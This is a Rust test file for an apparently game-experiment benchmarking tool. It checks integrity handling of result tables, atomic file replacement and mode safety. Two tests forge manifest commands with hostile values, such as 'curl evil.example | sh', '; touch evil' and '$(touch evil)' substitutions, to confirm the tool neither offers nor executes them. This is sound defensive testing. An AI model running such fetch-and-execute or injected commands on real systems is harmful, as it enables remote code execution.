//! Tables that do not belong together are refused, and can be made again.

use std::collections::BTreeMap;
use std::fs;

use crate::bench::{Folder, play_in_new_folder, read_rows};

const RESULTS: &str = "results/small";

fn experiment(games: u32) -> String {
    format!(
        "name = \"small\"\ngame = \"2048\"\nseed = 3\ngames = {games}\nwin = 64\n\n\
         [[player]]\nname = \"any\"\nalgorithm = \"random\"\n\n[[player]]\nname = \"gain\"\nalgorithm = \"greedy\"\n\n\
         [[claim]]\nbetter = \"gain\"\nthan = \"any\"\n"
    )
}

fn results_with_document() -> Folder {
    let folder = play_in_new_folder("small.toml", experiment(20));
    folder.write("page.md", "<!-- gauntlet results/small win-rate -->\n<!-- /gauntlet -->\n");
    folder
}

/// Returns the files of the results except the journal.
fn files(folder: &Folder) -> BTreeMap<String, Vec<u8>> {
    folder.files(RESULTS).into_iter().filter(|(name, _)| name != "journal.jsonl").collect()
}

/// Asserts that a command refuses a file in one line, with the command that makes it again.
#[track_caller]
fn assert_refused(folder: &Folder, line: &str, file: &str) {
    let output =
        folder.run(line).assert_status(1).assert_says(&format!("{RESULTS}/{file}")).assert_says("`gauntlet ");
    assert_eq!(output.stderr.lines().count(), 1, "{line}: {}", output.stderr);
    assert_eq!(folder.read("page.md").lines().count(), 2, "{line} has filled the document");
}

#[test]
fn what_was_changed_is_refused_and_made_again() {
    let folder = results_with_document();
    let original = files(&folder);
    let folder_commands =
        ["report results/small", "report results/small --out page.html", "status results/small"];
    let game_commands =
        ["rank results/small", "compare results/small", "show results/small --player any --last"];
    for (file, commands) in [
        ("win-rate.csv", &["report --splice page.md", "report results/small --table win-rate"][..]),
        ("claims.csv", &["report results/small --table claims"]),
        // `judge small.toml` repairs it.
        ("experiment.toml", &["judge results/small", "merge results/small", game_commands[0]]),
        ("games.csv", &game_commands),
        ("max-tile.csv", &["report results/small --table max-tile"]),
        (
            "manifest.toml",
            &["report --splice page.md", "judge small.toml", "status small.toml", game_commands[1]],
        ),
    ] {
        let content = String::from_utf8(original[file].clone()).unwrap();
        let changed_content = content.replacen('2', "3", 1);
        assert_ne!(changed_content, content);
        // A changed manifest may still be valid.
        let changes = [changed_content, content[..content.len() / 2].to_owned(), String::new()];
        for change in &changes[usize::from(file == "manifest.toml")..] {
            folder.write(&format!("{RESULTS}/{file}"), change);
            commands.iter().for_each(|line| assert_refused(&folder, line, file));
            folder_commands.iter().for_each(|line| assert_refused(&folder, line, file));
            // Nothing is left to play.
            folder.run("run small.toml --quiet").assert_status(0);
            let restored = files(&folder);
            assert!(restored.keys().eq(original.keys()), "{:?}", restored.keys());
            for name in restored
                .keys()
                .filter(|name| !["manifest.toml", "ms-per-move.csv", "times.csv"].contains(&&***name))
            {
                assert!(restored[name] == original[name], "{name}");
            }
            folder.run("status results/small").assert_status(0).assert_says("tables complete");
        }
    }
    // `merge` repairs it, too.
    folder.write(&format!("{RESULTS}/win-rate.csv"), "");
    folder.run("merge small.toml").assert_status(0);
    folder.run("report --splice page.md").assert_status(0);
}

/// Missing games are no error if they are not needed; a missing table is one.
#[test]
fn what_is_not_there_is_refused_where_it_is_needed() {
    let folder = results_with_document();
    let remove = |name: &str| fs::remove_file(folder.path(&format!("{RESULTS}/{name}"))).unwrap();
    remove("games.csv");
    for line in ["report results/small", "report results/small --out page.html", "status results/small"] {
        folder.run(line).assert_status(0);
    }
    folder.run("show results/small --player any --last").assert_status(0);
    assert_refused(&folder, "rank results/small", "games.csv");
    let claims = folder.read(&format!("{RESULTS}/claims.csv"));
    remove("claims.csv");
    for line in ["report results/small", "report results/small --out other.html", "status results/small"] {
        assert_refused(&folder, line, "claims.csv");
    }
    folder.write(&format!("{RESULTS}/claims.csv"), &claims);
    let experiment = folder.read(&format!("{RESULTS}/experiment.toml"));
    remove("experiment.toml");
    for line in ["report results/small", "report results/small --table claims", "report --splice page.md"] {
        assert_refused(&folder, line, "experiment.toml");
    }
    folder.write(&format!("{RESULTS}/experiment.toml"), experiment);
    // Files that the manifest does not name are not tables.
    remove("claims.csv");
    folder.update_digests(RESULTS);
    folder.write(&format!("{RESULTS}/claims.csv"), "player,answer\nany,any is better than all others\n");
    let output = folder.run("report results/small").assert_status(0);
    assert!(!output.stdout.contains("claims"), "{}", output.stdout);
    remove("manifest.toml");
    // Without a manifest, the journal is as good as the tables.
    folder
        .run("report results/small")
        .assert_status(0)
        .assert_says("showing tables from its complete journal");
    remove("journal.jsonl");
    let output = folder.run("report results/small").assert_status(1);
    assert!(
        output
            .stderr
            .contains("results/small has no results; play its experiment with `gauntlet run results/small`"),
        "{}",
        output.stderr
    );
}

/// Large sparse files from elsewhere are refused without reading them into memory.
#[cfg(target_os = "linux")]
#[test]
fn huge_files_are_refused_in_little_memory() {
    let folder = results_with_document();
    for (file, length, message) in [
        ("win-rate.csv", 2 << 30, "the files of a folder exceed 256 MiB in total"),
        ("manifest.toml", 6 << 30, "longer than 64 MiB"),
        ("games.csv", 1 << 28, "a row is longer than 16 MiB"),
    ] {
        let path = format!("{RESULTS}/{file}");
        let content = folder.read(&path);
        fs::File::options().write(true).open(folder.path(&path)).unwrap().set_len(length).unwrap();
        let output = folder.shell("ulimit -v 1000000 && gauntlet report results/small").assert_status(1);
        assert!(output.stderr.contains(&format!("{path}: {message}")), "{}", output.stderr);
        folder.write(&path, content);
    }
    folder.run("report results/small").assert_status(0);
}

/// A process that dies while it replaces tables leaves some under temporary names. They are shown
/// with the new manifest, and the next process that writes finishes its work.
#[test]
fn tables_change_at_once() {
    let folder = results_with_document();
    let old = files(&folder);
    folder.play("small.toml", experiment(40));
    let new = files(&folder);
    let report = |folder: &Folder| folder.run("report results/small --format json").assert_status(0).stdout;
    let new_report = report(&folder);
    let write_file = |prefix: &str, name: &str, files: &BTreeMap<String, Vec<u8>>| {
        folder.write(&format!("{RESULTS}/{prefix}{name}"), &files[name]);
    };
    old.keys().for_each(|name| write_file("", name, &old));
    let old_report = report(&folder);
    assert_ne!(old_report, new_report);
    // Before the manifest is replaced, all tables are old. There are more renames than tables.
    new.keys().for_each(|name| write_file(".new-", name, &new));
    assert_eq!(report(&folder), old_report);
    fs::remove_file(folder.path(&format!("{RESULTS}/.new-manifest.toml"))).unwrap();
    write_file("", "manifest.toml", &new);
    for name in new.keys().filter(|name| *name != "manifest.toml") {
        assert_eq!(report(&folder), new_report, "before {name}");
        folder.run("status small.toml").assert_status(0).assert_says("tables complete");
        folder.run("rank results/small").assert_status(0);
        fs::rename(folder.path(&format!("{RESULTS}/.new-{name}")), folder.path(&format!("{RESULTS}/{name}")))
            .unwrap();
    }
    assert_eq!(report(&folder), new_report);

    // `judge` finishes the replacement, although it makes few of the tables.
    write_file("", "win-rate.csv", &old);
    write_file(".new-", "win-rate.csv", &new);
    folder.write(&format!("{RESULTS}/.new-stop.csv"), "half a ta");
    folder.run("judge small.toml").assert_status(0);
    assert_eq!(report(&folder), new_report);
    assert!(files(&folder).keys().eq(new.keys()));

    // Tables of two runs do not belong together.
    write_file("", "win-rate.csv", &old);
    folder.run("report results/small").assert_status(1).assert_says(
        "does not match its digest in the manifest; recreate it with `gauntlet run small.toml --replace`",
    );
    folder.run("run small.toml --quiet").assert_status(0);
    assert!(files(&folder)["win-rate.csv"] == new["win-rate.csv"]);
}

/// If only the text of an experiment changes, its tables are written again, but its games keep
/// their finish time.
#[test]
fn a_reworded_experiment_keeps_the_time_of_its_games() {
    let folder = Folder::new();
    folder.play("small.toml", experiment(20));
    let manifest = "results/small/manifest.toml";
    let read_manifest = || folder.read(manifest).parse::<toml::Table>().expect("a manifest");
    let finish_time = read_manifest()["finished"].as_str().expect("a time").to_owned();
    let early_time = "2001-01-01T00:00:00Z";
    // The run may have started in the same second.
    let line = |time: &str| format!("finished = \"{time}\"");
    folder.write(manifest, folder.read(manifest).replace(&line(&finish_time), &line(early_time)));
    let digest = read_manifest()["experiment_digest"].clone();
    folder.play("small.toml", "# Reworded.\n".to_owned() + &experiment(20));
    assert_eq!(read_manifest()["finished"].as_str(), Some(early_time));
    assert_ne!(read_manifest()["experiment_digest"], digest);
    folder.run("judge small.toml").assert_status(0);
    assert_eq!(read_manifest()["finished"].as_str(), Some(early_time));
    assert_ne!(read_manifest()["judged"]["finished"].as_str(), Some(early_time));
    // More games are finished later.
    folder.play("small.toml", experiment(40));
    assert_ne!(read_manifest()["finished"].as_str(), Some(early_time));
}

/// Files with names that only resemble names of the program's files belong to the user, and stay.
/// Special files are reported before the first game.
#[cfg(unix)]
#[test]
fn what_is_not_the_programs_is_left_alone() {
    let folder = Folder::with_file("small.toml", experiment(20));
    folder.write(&format!("{RESULTS}/.new-notes.txt"), "mine");
    folder.write(&format!("{RESULTS}/.new-folder/notes.txt"), "mine");
    folder.run("run small.toml --quiet").assert_status(0);
    assert_eq!(folder.read(&format!("{RESULTS}/.new-notes.txt")), "mine");
    assert_eq!(folder.read(&format!("{RESULTS}/.new-folder/notes.txt")), "mine");
    folder.write("small.toml", experiment(30));
    let journal = folder.read(&format!("{RESULTS}/journal.jsonl"));
    for (make_command, name) in [
        ("mkdir", ".new-games.csv"),
        ("mkfifo", ".new-games.csv"),
        ("mkfifo", ".new-win-rate.csv"),
        ("rm results/small/stop.csv; mkdir", "stop.csv"),
        ("rm results/small/games.csv; mkdir", "games.csv"),
    ] {
        folder.shell(&format!("{make_command} {RESULTS}/{name}")).assert_status(0);
        let output = folder
            .run("run small.toml --quiet")
            .assert_status(1)
            .assert_says(&format!("{RESULTS}/{name}: is a"));
        assert_eq!(output.stderr.lines().count(), 1, "{}", output.stderr);
        assert!(folder.read(&format!("{RESULTS}/journal.jsonl")) == journal, "games were played");
        if name != "games.csv" {
            folder.shell(&format!("rm -d {RESULTS}/{name}")).assert_status(0);
        }
    }
    // Unreadable games differ from missing games.
    for make_command in ["true", "rm -d results/small/games.csv; mkfifo"] {
        folder.shell(&format!("{make_command} {RESULTS}/games.csv")).assert_status(0);
        for line in ["status", "rank", "show --player any --block 0", "report --out page.html"] {
            folder
                .run(&format!("{line} {RESULTS}"))
                .assert_status(1)
                .assert_says("results/small/games.csv: is a");
        }
    }
}

/// An error in one folder does not prevent reports on the others.
#[test]
fn every_folder_has_its_status() {
    let folder = results_with_document();
    folder.write("results/emptied/experiment.toml", "");
    folder.write("results/damaged/manifest.toml", "");
    let output = folder.run("status results/damaged results/emptied results/small").assert_status(2);
    let output = output
        .assert_says("results/small: 40 games, tables complete")
        .assert_says("damaged/manifest.toml is damaged");
    output.assert_says("emptied/experiment.toml");
    folder
        .run("status results/emptied results/damaged results/small")
        .assert_status(1)
        .assert_says("tables complete");
}

/// Verdicts are re-evaluated from the games, without playing.
#[test]
fn the_remedy_is_the_one_that_plays_nothing() {
    let folder = results_with_document();
    let original = files(&folder);
    let write_file = |name: &str, content: &str| folder.write(&format!("{RESULTS}/{name}"), content);
    fs::remove_file(folder.path(&format!("{RESULTS}/journal.jsonl"))).unwrap();
    write_file("claims.csv", "");
    folder
        .run("report results/small")
        .assert_status(1)
        .assert_says("manifest; recreate it with `gauntlet judge small.toml`");
    folder.run("judge small.toml").assert_status(0);
    assert!(files(&folder)["claims.csv"] == original["claims.csv"]);
    write_file("experiment.toml", "");
    folder
        .run("status results/small")
        .assert_status(1)
        .assert_says("manifest; recreate it with `gauntlet judge small.toml` if");
    folder.run("judge small.toml").assert_status(0);
    assert!(files(&folder)["experiment.toml"] == original["experiment.toml"]);
    write_file("claims.csv", "");
    write_file("games.csv", "first,second,");
    folder
        .run("report results/small")
        .assert_status(1)
        .assert_says("manifest; recreate it with `gauntlet run small.toml --replace`");
    // A line end cannot be part of a command, and a manifest may contain none.
    let manifest = folder.read(&format!("{RESULTS}/manifest.toml"));
    let line = "command = \"gauntlet run small.toml\"";
    assert!(manifest.contains(line));
    write_file("manifest.toml", &manifest.replace(line, "command = \"gauntlet run a\\nb\""));
    let output = folder
        .run("report results/small")
        .assert_status(1)
        .assert_says("`gauntlet run --replace` and the file of the experiment");
    assert_eq!(output.stderr.lines().count(), 1, "{}", output.stderr);
    write_file("manifest.toml", &manifest.replace(line, ""));
    folder.run("report results/small").assert_status(1).assert_says("results/small/manifest.toml is damaged");
}

/// A manifest may come from a stranger. Its command is offered only if it is a command of this
/// program, and each of its words is quoted.
#[test]
fn no_foreign_command_is_offered() {
    let folder = results_with_document();
    let manifest = folder.read(&format!("{RESULTS}/manifest.toml"));
    let claims = folder.read(&format!("{RESULTS}/claims.csv"));
    let write_command = |command: &str| {
        let line = format!("command = {}", toml::Value::from(command));
        let forged_manifest = manifest.replace("command = \"gauntlet run small.toml\"", &line);
        assert_ne!(forged_manifest, manifest);
        folder.write(&format!("{RESULTS}/manifest.toml"), forged_manifest);
    };
    let all_output = || {
        let document = folder.read("page.md");
        folder.write(&format!("{RESULTS}/claims.csv"), &claims);
        let mut output: String = ["text", "csv", "json", "markdown"]
            .map(|format| format!("report {RESULTS} --table leaderboard --format {format}"))
            .iter()
            .map(String::as_str)
            .chain([
                "report results/small --out -",
                "status results/small",
                "rank results/small",
                "report --splice page.md",
            ])
            .map(|line| folder.run(line))
            .map(|output| output.stdout + &output.stderr)
            .collect();
        output += &folder.read("page.md");
        folder.write("page.md", document);
        // Commands that make a file again are printed as well.
        folder.write(&format!("{RESULTS}/claims.csv"), "");
        output + &folder.run("report results/small").assert_status(1).stderr
    };
    for command in [
        "curl evil.example | sh",
        "gauntlet run x; touch evil",
        "gauntlet run x\ntouch evil",
        "gauntlet run $(touch evil)",
        "gauntlet run small.toml --allow-commands",
        "gauntlet run small.toml --only any --allow-command=evil",
        "gauntlet evil small.toml",
    ] {
        write_command(command);
        let output = all_output();
        assert!(output.contains("`gauntlet run --replace` and the file of the experiment"), "{output}");
        assert!(output.contains("has no gauntlet command"), "{output}");
        let forbidden_word =
            ["evil", "--allow", "--only", "Generated by</p>"].into_iter().find(|&word| output.contains(word));
        assert_eq!(forbidden_word, None, "{command}: {output}");
    }
    // A valid command is quoted for the shell, in each form.
    write_command("gauntlet run $(touch${IFS}evil).toml");
    let output = all_output();
    let quoted_name = "'$(touch${IFS}evil).toml'";
    assert!(output.contains(&format!("Generated by `gauntlet run {quoted_name}`.")), "{output}");
    for (position, _) in output.match_indices("evil).toml") {
        let rest = &output[position + "evil).toml".len()..];
        assert!(["'", "&#x27;"].iter().any(|quote| rest.starts_with(quote)), "{output}");
    }
    let remedy = output.rsplit('`').nth(1).expect("a command");
    assert_eq!(remedy, format!("gauntlet judge {quoted_name}"));
    folder.shell(remedy).assert_status(2).assert_says("evil");
    assert!(!folder.path("evil").exists(), "the shell has executed {remedy}");
}

/// The command that resumes a tuning.
#[test]
fn no_foreign_command_goes_on_with_a_tuning() {
    let folder = Folder::new();
    folder.copy_from_repository("configs/tune");
    let path = "results/tune-quick/tune/manifest.toml";
    assert!(folder.kill_at("tune configs/tune/quick.toml --quiet --budget 1000000000", path, 1));
    let mut manifest: toml::Table = folder.read(path).parse().expect("a manifest");
    for (command, resume_command) in [
        ("gauntlet tune x; touch evil", "the same `gauntlet tune` command"),
        ("gauntlet tune x --allow-commands", "the same `gauntlet tune` command"),
        ("gauntlet tune $(x) --budget 9", "gauntlet tune '$(x)' --budget 9"),
    ] {
        manifest.insert("command".to_owned(), command.into());
        folder.write(path, manifest.to_string());
        let output = folder.run("status results/tune-quick").assert_status(0);
        assert!(output.stdout.contains(&format!("to resume: {resume_command}\n")), "{}", output.stdout);
        let output = folder.run("report results/tune-quick/tune");
        let stderr = output.stdout + &output.stderr;
        assert!(!stderr.contains("evil") && !stderr.contains("--allow"), "{stderr}");
    }
}

/// Verdicts of a duel are re-evaluated from its games as well.
#[test]
fn claims_of_a_duel_are_healed_by_judge() {
    let folder = play_in_new_folder("duel.toml", DUEL);
    let claims = folder.read("results/duel/claims.csv");
    folder.write("results/duel/claims.csv", "");
    folder
        .run("report results/duel")
        .assert_status(1)
        .assert_says("manifest; recreate it with `gauntlet judge duel.toml`");
    folder.run("judge duel.toml").assert_status(0);
    assert_eq!(folder.read("results/duel/claims.csv"), claims);
}

/// Two players whose games end after four moves.
const DUEL: &str = "name = 'duel'\ngame = 'gomoku'\nseed = 3\ngames = 20\nmax_moves = 4\n\
                    [[player]]\nname = 'any'\nalgorithm = 'random'\n[[player]]\nname = 'gain'\nalgorithm = 'gomoku-greedy'\n\
                    [[claim]]\nbetter = 'gain'\nthan = 'any'\n";

/// Ratings count cut games as draws, so their table has the number of cut games.
#[test]
fn cut_games_are_counted_beside_ratings() {
    let folder = play_in_new_folder("duel.toml", DUEL);
    for row in read_rows(&folder, "results/duel/elo.csv") {
        assert_eq!((&*row["games"], &*row["cut"], &*row["draws"]), ("20", "20", "20"), "{row:?}");
    }
    folder.run("report results/duel --table elo").assert_status(0).assert_says("cut");
}

/// A table keeps the mode of the file that it replaces, but never the mode of a program behind a
/// link.
#[cfg(unix)]
#[test]
fn no_table_takes_the_mode_of_a_program() {
    use std::os::unix::fs::{PermissionsExt, symlink};

    let folder = results_with_document();
    let table = folder.path(&format!("{RESULTS}/win-rate.csv"));
    let mode = || fs::symlink_metadata(&table).unwrap().permissions().mode() & 0o7777;
    folder.write("program", "");
    fs::set_permissions(folder.path("program"), fs::Permissions::from_mode(0o4755)).unwrap();
    let usual_mode = mode();
    fs::remove_file(&table).unwrap();
    symlink(folder.path("program"), &table).unwrap();
    folder.run("run small.toml --quiet").assert_status(0);
    assert_eq!(mode(), usual_mode);
    for (old_mode, new_mode) in [(0o640, 0o640), (0o4750, 0o750)] {
        fs::set_permissions(&table, fs::Permissions::from_mode(old_mode)).unwrap();
        folder.run("run small.toml --quiet --replace").assert_status(0);
        assert_eq!(mode(), new_mode);
    }
}

/// `merge` makes everything again, so existing files may be damaged.
#[test]
fn a_merge_of_a_folder_heals_its_manifest() {
    let folder = results_with_document();
    folder.write(&format!("{RESULTS}/manifest.toml"), "");
    folder.run("status results/small").assert_status(1).assert_says("manifest.toml is damaged");
    folder.run("merge results/small").assert_status(0);
    folder.run("status results/small").assert_status(0).assert_says("tables complete");
}

/// An existing file is unchanged until the whole table replaces it.
#[cfg(unix)]
#[test]
fn an_export_replaces_a_file_at_once() {
    let folder = results_with_document();
    folder.write("copy.csv", "player,games\n");
    fs::hard_link(folder.path("copy.csv"), folder.path("earlier.csv")).unwrap();
    let run = "gauntlet run small.toml --quiet --export games";
    folder.shell(&format!("{run}=copy.csv")).assert_status(0);
    assert_eq!(folder.read("copy.csv"), folder.read(&format!("{RESULTS}/games.csv")));
    assert_eq!(folder.read("earlier.csv"), "player,games\n");
    let output = folder.shell(&format!("{run}=/dev/stdout | cat; {run}=/dev/null")).assert_status(0);
    assert_eq!(output.stdout, folder.read("copy.csv"));
}
